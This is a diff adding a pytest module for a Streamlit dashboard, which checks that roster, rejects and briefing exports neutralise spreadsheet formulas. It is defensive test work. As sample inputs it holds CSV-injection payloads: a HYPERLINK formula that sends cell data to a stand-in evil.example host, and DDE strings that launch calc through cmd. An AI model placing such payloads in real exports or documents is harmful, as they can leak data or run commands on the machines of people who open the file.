@@ -1,0 +1,143 @@
+"""The web side of the second trust pass (issue 16): a lockout nobody can lift, a wall that heals
+itself, CSV cells that never run as formulas, a wall that fits every banner, a map from
+boundaries that carry only area codes, and a data-health table without "None".
+
+AppTest here; what only a real server or a browser shows is in tests/browser/test_trust_second.py.
+"""
+
+from __future__ import annotations
+
+import csv
+import html
+import re
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from dashboard.data import briefing
+from dashboard.data.ingest import ingest
+from dashboard.i18n import spreadsheet_safe, spreadsheet_safe_frame
+from dashboard.settings import Settings
+from tests.conftest import serving
+from tests.fixtures import build_fixture
+
+REPO = Path(__file__).resolve().parents[1]
+APP = REPO / "dashboard" / "app.py"
+# What a spreadsheet runs as a formula (OWASP, "CSV Injection"), written out here rather than
+# taken from the dashboard.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def open_page(page: str | None = None, **params) -> AppTest:
+    at = AppTest.from_file(str(APP), default_timeout=60)
+    for name, value in params.items():
+        at.query_params[name] = value
+    if page:
+        at.switch_page(f"app_pages/{page}.py")
+    return at.run()
+
+
+def rewrite_csv(path: Path, change) -> None:
+    """Read a fixture CSV, let change(rows) edit its dict rows in place, write it back."""
+    with path.open(encoding="utf-8", newline="") as f:
+        reader = csv.DictReader(f)
+        fields, rows = reader.fieldnames, list(reader)
+    change(rows)
+    with path.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=fields)
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+# ---------------------------------------------------------------- 7. CSV formula injection
+
+EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+EVIL_UNIT = "+86-371-1234"
+EVIL_REJECT = "=1+1"  # a start time that is no time: rejected, and shown in the rejects table
+
+
+def formulas_in_names(data_dir: Path) -> None:
+    def change(rows):
+        rows[0]["staff_name"], rows[1]["staff_name"] = EVIL_NAMES
+        rows[2]["unit"] = EVIL_UNIT
+        rows.append({**rows[3], "shift_id": "CP01-0106-bad", "starts_at": EVIL_REJECT})
+
+    rewrite_csv(data_dir / "exports" / "2022-01-06" / "shifts.csv", change)
+
+
+@pytest.fixture(scope="module")
+def formula_snapshot(tmp_path_factory) -> Settings:
+    root = tmp_path_factory.mktemp("formulas")
+    data_dir = build_fixture(root / "data")
+    formulas_in_names(data_dir)
+    settings = Settings.from_env(data_dir, root / "snapshot.duckdb")
+    result = ingest(settings)
+    assert result.ok, result.failed
+    return settings
+
+
+@pytest.fixture
+def formula_app(formula_snapshot, monkeypatch):
+    with serving(formula_snapshot, monkeypatch):
+        yield formula_snapshot
+
+
+def text_cells(at: AppTest) -> list[str]:
+    """Every text cell of every st.dataframe on the page: what its "Download as CSV" writes."""
+    return [value for table in at.dataframe for column in table.value.columns
+            for value in table.value[column] if isinstance(value, str)]
+
+
+def test_a_formula_in_a_cell_is_neutralised_but_numbers_are_left_alone():
+    for trigger in TRIGGERS:
+        assert spreadsheet_safe(f"{trigger}SUM(A1)") == f"'{trigger}SUM(A1)"
+    assert spreadsheet_safe("杏苑社区 =1") == "杏苑社区 =1"  # only the start makes a formula
+    frame = pd.DataFrame({"name": ["-x", "ok", None], "count": pd.array([-3, 4, None], dtype="Int64"),
+                          "share": [-0.5, 0.2, 0.1]})
+    safe = spreadsheet_safe_frame(frame)
+    assert list(safe["name"][:2]) == ["'-x", "ok"] and pd.isna(safe["name"][2])
+    assert safe["count"].tolist()[:2] == [-3, 4] and str(safe["count"].dtype) == "Int64"
+    assert safe["share"].tolist() == [-0.5, 0.2, 0.1]
+
+
+def test_the_roster_download_holds_no_formula(formula_app):
+    at = open_page("staff")
+    assert not at.exception
+    cells = text_cells(at)
+    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
+    # The names are still there, shown as typed after the quote.
+    for name in [*EVIL_NAMES, EVIL_UNIT]:
+        assert f"'{name}" in cells, name
+
+
+def test_the_rejects_download_holds_no_formula(formula_app):
+    at = open_page("health")
+    assert not at.exception
+    cells = text_cells(at)
+    assert f"'{EVIL_REJECT}" in cells
+    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
+
+
+def test_the_briefing_starts_no_line_with_a_formula():
+    report = {"as_of": "2022-01-06", "at": "2022-01-06T12:00", "feeds": {}, "corrections": [],
+              "zones_active": {}, "isolation_active": {}} | {key: None for key in (
+                  "population_sealed", "samples_on_day", "positives_on_day", "current_round", "round_coverage",
+                  "releases_due_next_day", "hotel_occupancy", "staff_on_duty", "posts_understaffed")}
+    inputs = briefing.BriefingInputs(
+        report=report, lang="en", area_name="=cmd|' /C calc'!A0",
+        attention=[("@kind", "-2+3 at 杏苑")],
+        awaiting=pd.DataFrame({"name": [EVIL_NAMES[0]], "awaiting": [1], "longest_wait_hours": [30]}),
+        data_as_of=pd.Timestamp("2022-01-06 20:00"))
+    page = briefing.to_html(inputs)
+    cells = [cell for tag in ("h1", "li", "p", "title") for cell in _texts_of(page, tag)]
+    assert any(EVIL_NAMES[0] in cell for cell in cells)  # the name is there...
+    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []  # ...and no cell starts a formula
+    markdown_lines = [line.removeprefix("- ").removeprefix("# ") for line in briefing.to_markdown(inputs).splitlines()]
+    assert [line for line in markdown_lines if line.lstrip("\\").startswith(TRIGGERS)] == []
+
+
+def _texts_of(page: str, tag: str) -> list[str]:
+    """The text of each <tag> element of the page, as a spreadsheet would take it when pasted."""
+    return [html.unescape(match).strip() for match in re.findall(rf"<{tag}>(.*?)</{tag}>", page, flags=re.S)]
